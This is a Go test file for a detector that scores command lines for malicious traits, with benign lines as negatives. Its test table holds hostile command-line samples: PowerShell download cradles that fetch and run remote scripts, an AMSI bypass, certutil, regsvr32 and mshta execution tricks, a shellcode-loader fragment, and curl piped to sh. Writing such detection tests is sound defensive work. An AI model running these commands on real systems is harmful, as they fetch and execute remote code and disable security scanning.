package cmdline

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hunchsec/hunch/internal/testcorpus"
)

func rulesOf(r Result) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Rule)
	}
	return out
}

func TestRules(t *testing.T) {
	a := New()
	tests := []struct {
		name string
		cmd  string
		want []string // exactly these rules, in Rules() order
	}{
		{"empire launcher", `powershell.exe -NoP -sta -NonI -W Hidden -Enc WwBTAFkAUwB0AEUAbQAuAE4ARQBUAC4AUwBFAHIAdgBJAEMAZQBQAG8A`,
			[]string{"encoded_command", "hidden_window", "policy_bypass"}},
		{"EncodedCommand spelled out", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi`,
			[]string{"encoded_command"}},
		{"-ec alias", `powershell -ec SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgACcA`, []string{"encoded_command"}},
		{"cradle", `powershell -ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"`,
			[]string{"download_cradle", "invoke_expression", "policy_bypass"}},
		{"amsi", `powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"`,
			[]string{"amsi_bypass"}},
		{"certutil fetch and decode", `certutil.exe -urlcache -split -f http://203.0.113.5/p.b64 p.b64 & certutil -decode p.b64 p.exe`,
			[]string{"download_cradle", "lolbin_execution"}},
		{"regsvr32 squiblydoo", `regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll`, []string{"lolbin_execution"}},
		{"mshta", `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")(window.close)`, []string{"lolbin_execution"}},
		{"rundll32 js", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, []string{"lolbin_execution"}},
		{"carets", `c^m^d /c p^o^w^e^r^s^h^e^l^l -c whoami`, []string{"caret_obfuscation"}},
		{"backticks", "powershell -c \"I`E`X (N`ew-Ob`ject Net.WebClient)\"", []string{"download_cradle", "backtick_obfuscation"}},
		{"concatenation", `powershell -c "$a='Ne'+'w-Ob'+'ject'; & $a"`, []string{"string_concatenation"}},
		{"char codes", `powershell -c "[char]73+[char]69+[char]88"`, []string{"char_codes"}},
		{"shellcode loader", `$c = '[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);'`, []string{"native_injection"}},
		{"gzip stager", `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIA...'));(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
			[]string{"compressed_payload"}},
		{"curl pipe sh", `curl -s https://203.0.113.5/x.sh | sh`, []string{"download_cradle"}},
		// Everyday command lines score nothing.
		{"svchost", `C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`, nil},
		{"chrome", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7`, nil},
		{"script file", `powershell.exe -File C:\scripts\backup.ps1 -Destination \\nas\backup`, nil},
		{"one caret", `cmd /c echo a^&b`, nil},
		{"one concatenation", `python -c "print('a' + 'b')"`, nil},
		{"enc as a word", `openssl enc -aes-256-cbc -in secrets.txt -out secrets.enc`, nil},
		{"certutil hash", `certutil -hashfile setup.exe SHA256`, nil},
		{"window title", `powershell -WindowStyle Normal -File run.ps1`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := a.Analyze(tt.cmd)
			if got := rulesOf(res); !slices.Equal(got, tt.want) {
				t.Errorf("rules %v, want %v (%+v)", got, tt.want, res.Findings)
			}
			sum := 0
			for _, f := range res.Findings {
				sum += f.Weight
				if f.Reason == "" || f.Match == "" {
					t.Errorf("finding without reason or match: %+v", f)
				}
			}
			if res.Score != min(sum, MaxScore) {
				t.Errorf("score %d, weights %d", res.Score, sum)
			}
		})
	}
}

func TestScoreCapped(t *testing.T) {
	res := New().Analyze("powershell -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi; [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils'); IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
	if res.Score != MaxScore || len(res.Findings) < 5 {
		t.Errorf("score %d, %d findings", res.Score, len(res.Findings))
	}
}

// TestUnit42Corpus runs the rules over the Unit 42 encoded-command corpus: every real command
// line is flagged as an encoded command, and the decoded scripts are scored for what they do.
func TestUnit42Corpus(t *testing.T) {
	path := testcorpus.Path(t, filepath.Join("powershell", "unit42_encodedcommand_cases.jsonl"))
	type row struct {
		CommandLine string `json:"command_line"`
		Decoded     string `json:"expect_decoded"`
		Family      string `json:"family"`
	}
	rows := testcorpus.ReadJSONL[row](t, path)
	a := New()
	encoded, decodedFlagged := 0, 0
	var missed []string
	for _, r := range rows {
		if slices.Contains(rulesOf(a.Analyze(r.CommandLine)), "encoded_command") {
			encoded++
		} else {
			missed = append(missed, r.Family+": "+r.CommandLine[:min(len(r.CommandLine), 80)])
		}
		if a.Analyze(r.Decoded).Score > 0 {
			decodedFlagged++
		}
	}
	t.Logf("%d of %d command lines flagged encoded_command; %d of %d decoded scripts score above 0", encoded, len(rows), decodedFlagged, len(rows))
	if encoded != len(rows) {
		t.Errorf("missed %d:\n%s", len(missed), strings.Join(missed, "\n"))
	}
	if decodedFlagged*100 < len(rows)*90 {
		t.Errorf("only %d of %d decoded scripts flagged", decodedFlagged, len(rows))
	}
}

func TestEntropy(t *testing.T) {
	for _, tt := range []struct {
		s        string
		lo, high float64
	}{
		{"", 0, 0}, {"aaaa", 0, 0}, {"ab", 1, 1}, {"abcdefgh", 3, 3},
		{"the quick brown fox jumps over the lazy dog", 4.1, 4.4},
		{"u7Yq0Lr+9cXbW2pZ1kTnA4sEoVhJmG8fD3yRi6aKlN5tMwPzQ/xBgC", 5.5, 6},
	} {
		if h := Entropy(tt.s); h < tt.lo-1e-9 || h > tt.high+1e-9 {
			t.Errorf("Entropy(%q) = %v, want in [%v, %v]", tt.s, h, tt.lo, tt.high)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "c^m^d /c w^h^o^a^m^i", "I`E`X", "'a'+'b'+'c'", "[char]73[char]69[char]88", "\x00\xff"} {
		f.Add(s)
	}
	a := New()
	f.Fuzz(func(t *testing.T, s string) {
		res := a.Analyze(s)
		sum := 0
		for _, fd := range res.Findings {
			sum += fd.Weight
			if len(fd.Match) > 120 || !strings.Contains(s, fd.Match) {
				t.Fatalf("match %q not from the input", fd.Match)
			}
		}
		if res.Score != min(sum, MaxScore) || res.Score < 0 {
			t.Fatalf("score %d for weights %d", res.Score, sum)
		}
		if Entropy(s) < 0 || Entropy(s) > 8 {
			t.Fatalf("entropy %v", Entropy(s))
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	cmds := []string{
		`C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7 --launch-time-ticks=90412345`,
		`powershell.exe -NoP -sta -NonI -W Hidden -Enc WwBTAFkAUwB0AEUAbQAuAE4ARQBUAC4AUwBFAHIAdgBJAEMAZQBQAG8A`,
		`cmd.exe /c copy \\server\share\file.txt C:\temp\file.txt`,
	}
	a := New()
	b.ResetTimer()
	for i := range b.N {
		a.Analyze(cmds[i%len(cmds)])
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "cmdlines/s")
}
